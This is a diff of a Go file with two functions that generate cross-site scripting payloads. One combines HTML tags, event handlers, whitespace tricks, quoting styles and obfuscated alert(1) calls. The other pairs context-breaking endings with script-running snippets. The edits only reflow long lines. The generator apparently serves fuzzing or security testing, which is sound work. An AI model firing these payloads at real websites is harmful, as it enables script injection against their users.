@@ -31,7 +31,8 @@ func enough(all []string) int {
 // handlers returns elements that run an attribute by themselves or on a touch.
 func handlers() (out []string) {
 	tags := strings.Fields("img svg body video audio details input iframe marquee object embed style link select textarea button form math track source dialog a table frameset image isindex template noscript xmp x")
-	events := []string{"onerror", "onload", "onfocus autofocus tabindex=1", "ontoggle open", "onmouseover", "onanimationstart style=animation:x", "onbeforetoggle popover", "onpointerrawupdate", "onscrollend", "oncontentvisibilityautostatechange style=content-visibility:auto"}
+	events := []string{"onerror", "onload", "onfocus autofocus tabindex=1", "ontoggle open", "onmouseover", "onanimationstart style=animation:x",
+		"onbeforetoggle popover", "onpointerrawupdate", "onscrollend", "oncontentvisibilityautostatechange style=content-visibility:auto"}
 	gaps := []string{" ", "/", "\t", "\n", "\f", "  ", "/x/", "\r"}
 	quotes := []string{"%s", "'%s'", `"%s"`, "`%s`", " = %s"}
 	codes := []string{"alert(1)", "alert`1`", "&#97;lert(1)", "\\u0061lert(1)", "top['al'+'ert'](1)", "(alert)(1)", "javascript:alert(1)"}
@@ -53,7 +54,8 @@ func handlers() (out []string) {
 
 // breakouts returns texts that end their context and then run.
 func breakouts() (out []string) {
-	ends := []string{`">`, "'>", "-->", "--!><!--x-->", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "]]>", "\x00", "`>", "</select></option>", "</svg></math>", "</template>",
+	ends := []string{`">`, "'>", "-->", "--!><!--x-->", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "]]>", "\x00", "`>",
+		"</select></option>", "</svg></math>", "</template>",
 		"</a></p></div></main>", "\r\n\r\n<html>", "&quot;&gt;", "%22%3e", `\">`, "\"'`>", "/>", "?>", "%>", "</bdi></b>"}
 	runs := []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", `" onmouseover="alert(1)" x="`, "' autofocus onfocus='alert(1)' x='"}
 	for _, end := range ends {
